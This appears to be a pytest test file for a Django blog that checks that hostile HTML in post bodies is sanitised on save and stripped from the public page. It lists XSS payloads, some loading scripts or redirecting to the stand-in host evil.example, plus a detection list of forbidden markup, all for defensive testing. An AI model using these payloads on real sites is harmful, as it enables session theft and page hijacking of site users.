"""Hostile HTML in a post's body is cleaned on save, whatever path it comes through."""

import pytest

from blog.models import Post
from blog.tests.factories import PostFactory

pytestmark = pytest.mark.django_db

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=\"javascript:alert('x')\">",
    '<a href="javascript:alert(1)">klikkaa</a>',
    '<a href="JaVaScRiPt:alert(1)">klikkaa</a>',
    '<a href="&#106;avascript:alert(1)">klikkaa</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<p style="background:url(javascript:alert(1))">tyyli</p>',
    '<div onmouseover="alert(1)">hiiri</div>',
    "<body onload=alert(1)>",
    '<form action="https://evil.example/"><input name="x"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<a href="https://example.org/" target="_blank" onclick="steal()">linkki</a>',
    '"><script>alert(document.cookie)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/">',
]

FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "javascript:",
    "<iframe",
    "<svg",
    "style=",
    "<form",
    "<object",
    "<embed",
    "<meta",
    "<link",
    "<style",
    "<base",
    "data:text/html",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_html_is_cleaned_on_save(payload):
    post = PostFactory(body_fi=f"<p>Alku</p>{payload}<p>Loppu</p>", body_sv=payload)
    post.refresh_from_db()
    for body in (post.body_fi, post.body_sv):
        lowered = body.lower()
        for needle in FORBIDDEN:
            assert needle not in lowered, (payload, body)
    assert "<p>Alku</p>" in post.body_fi


def test_allowed_formatting_survives():
    html = (
        "<h2>Otsikko</h2><p><strong>Lihava</strong> ja <em>kursiivi</em> "
        '<a href="https://example.org/">linkki</a></p><ul><li>yksi</li></ul>'
        "<blockquote><p>Lainaus</p></blockquote>"
    )
    post = PostFactory(body_fi=html)
    post.refresh_from_db()
    for piece in (
        "<h2>Otsikko</h2>",
        "<strong>Lihava</strong>",
        "<em>kursiivi</em>",
        "<li>yksi</li>",
        "<blockquote>",
    ):
        assert piece in post.body_fi
    assert 'rel="noopener noreferrer"' in post.body_fi


def test_public_page_shows_the_cleaned_text(client):
    post = PostFactory(body_fi='<p>Teksti</p><img src=x onerror="alert(1)"><script>x()</script>')
    html = client.get(post.get_absolute_url()).content.decode()
    assert "onerror" not in html
    assert "x()" not in html


def test_queryset_update_bypass_is_not_a_path_for_editors():
    # Only save() and the editor form write the body; both sanitise.
    post = PostFactory()
    post.body_fi = "<p onclick='x()'>a</p>"
    post.save(update_fields=["body_fi"])
    assert "onclick" not in Post.objects.get(pk=post.pk).body_fi
